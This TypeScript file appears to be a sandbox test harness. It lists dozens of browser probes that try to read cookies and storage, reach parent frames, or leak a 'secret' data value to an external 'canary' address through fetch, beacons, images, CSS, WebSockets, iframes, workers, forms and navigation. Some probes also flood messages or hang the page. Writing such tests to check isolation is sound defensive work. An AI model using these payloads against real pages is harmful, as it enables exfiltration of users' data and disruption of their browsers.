/**
 * Attacks, each the body of an async function. `canary` is an external address that counts requests; `open(text)`
 * reports access to something forbidden.
 */
export const QUIET_PROBES: Readonly<Record<string, string>> = {
  cookie: `try { document.cookie = 'a=1'; open(document.cookie) } catch {}`,
  storage: `for (const read of [() => localStorage, () => sessionStorage, () => indexedDB.open('x') && caches]) {
    try { const kept = read(); if (kept) open('storage') } catch {} }`,
  parent: `try { open(parent.document.title + parent.location.href) } catch {}`,
  top: `try { open(top.document.cookie + top.localStorage) } catch {}`,
  fetch: `await fetch(canary + '/fetch?' + secret, { mode: 'no-cors' }).then(() => open('fetch'), () => {})`,
  own_server: `await fetch('/api/account').then(() => open('own server'), () => {})`,
  xhr: `await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; try { x.open('GET', canary + '/xhr'); x.send() } catch { done() } })`,
  beacon: `navigator.sendBeacon(canary + '/beacon', secret)`,
  image: `new Image().src = canary + '/image?' + secret`,
  css_url: `const s = document.createElement('style'); s.textContent = '@import "' + canary + '/import.css"; body { background: url(' + canary + '/css) }'; document.head.append(s)`,
  font: `await new FontFace('x', 'url(' + canary + '/font)').load().then(() => open('font'), () => {})`,
  script: `for (const url of [canary + '/script.js', '/assets/x.js']) { const s = document.createElement('script'); s.src = url; s.nonce = document.querySelector('script').nonce; document.head.append(s) }`,
  import: `await import(canary + '/module.js').then(() => open('import'), () => {})`,
  prefetch: `for (const rel of ['prefetch', 'preload', 'prerender', 'dns-prefetch', 'preconnect', 'modulepreload', 'stylesheet', 'manifest', 'icon']) {
    const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = canary + '/' + rel; document.head.append(l) }`,
  socket: `try { const w = new WebSocket(canary.replace('http', 'ws') + '/socket'); await new Promise((done) => { w.onopen = () => { open('socket'); done() }; w.onerror = done }) } catch {}`,
  event_source: `try { const e = new EventSource(canary + '/events'); await new Promise((done) => { e.onopen = () => { open('events'); done() }; e.onerror = done }); e.close() } catch {}`,
  webrtc: `for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'WebTransport']) if (name in globalThis) open(name)`,
  webrtc_nested: `for (const srcdoc of [undefined, '<p>x']) {
    const f = document.createElement('iframe'); if (srcdoc) f.srcdoc = srcdoc; document.body.append(f)
    try { if (f.contentWindow.RTCPeerConnection) open('nested realm') } catch {}
    try { if (frames[frames.length - 1].RTCPeerConnection) open('nested realm') } catch {} }`,
  nested_frame: `for (const src of [canary + '/frame', 'data:text/html,<img src=' + canary + '/data>', 'javascript:fetch("' + canary + '/js")']) {
    const f = document.createElement('iframe'); f.src = src; document.body.append(f) }
    const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("' + canary + '/srcdoc")</' + 'script><img src="' + canary + '/srcdoc-image"><meta http-equiv="refresh" content="0;url=' + canary + '/srcdoc-refresh">'; document.body.append(f)`,
  form: `const f = document.createElement('form'); f.action = canary + '/form'; f.method = 'post'; document.body.append(f); f.submit()`,
  popup: `if (window.open(canary + '/popup')) open('popup')`,
  worker: `for (const make of [() => new Worker(canary + '/worker.js'), () => new Worker(URL.createObjectURL(new Blob(['fetch("' + canary + '/blob-worker")']))), () => new SharedWorker(canary + '/shared.js')]) { try { make() } catch {} }`,
  service_worker: `try { await navigator.serviceWorker.register('/assets/x.js'); open('service worker') } catch {}`,
  object: `for (const tag of ['object', 'embed', 'video', 'audio']) { const o = document.createElement(tag); o.data = o.src = canary + '/' + tag; document.body.append(o) }`,
  ping: `const a = document.createElement('a'); a.href = '#here'; a.ping = canary + '/ping'; document.body.append(a); a.click()`,
  report: `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri " + canary + '/report'; document.head.append(m); new Image().src = 'data:image/png;base64,AA'`,
  top_navigation: `try { top.location = canary + '/top' } catch {}`,
}

/** Attacks that break the frame: one per page. */
export const LOUD_PROBES: Readonly<Record<string, string>> = {
  self_navigation: `location = canary + '/self?' + secret`,
  refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + canary + '/refresh'; document.head.append(m)`,
  blob_navigation: `location = URL.createObjectURL(new Blob(['<script>fetch("' + canary + '/blob")</' + 'script><img src="' + canary + '/blob-image">'], { type: 'text/html' }))`,
  download: `const a = document.createElement('a'); a.href = canary + '/download'; a.download = 'x'; document.body.append(a); a.click()`,
  flood: `for (let n = 0; n < 20000; n += 1) parent.postMessage({ kind: 'height', pixels: n }, '*')`,
  busy_loop: `for (;;) {}`,
}

export function buildHostileCode(canary: string): string {
  const cases = Object.entries({ ...QUIET_PROBES, ...LOUD_PROBES })
    .map(([name, body]) => `${name}: async () => { ${body} }`)
    .join(',\n')
  return `const canary = ${JSON.stringify(canary)}
const list = document.createElement('ul')
spark.root.append(list)
const tell = (text) => { const line = document.createElement('li'); line.textContent = text; list.append(line) }
const open = (text) => tell('OPEN ' + String(text).slice(0, 80))
const secret = encodeURIComponent(JSON.stringify((await spark.rows('secret')).objects))
const probes = { ${cases} }
const chosen = spark.parameters.probe
for (const name of chosen === 'quiet' ? ${JSON.stringify(Object.keys(QUIET_PROBES))} : [chosen]) {
  try { await probes[name]() } catch (error) { tell(name + ' threw ' + error.name) }
  tell('done ' + name)
}
if (chosen === 'quiet') { const tall = document.createElement('div'); tall.style.height = '9000000px'; spark.root.append(tall); tell('done huge_height') }`
}
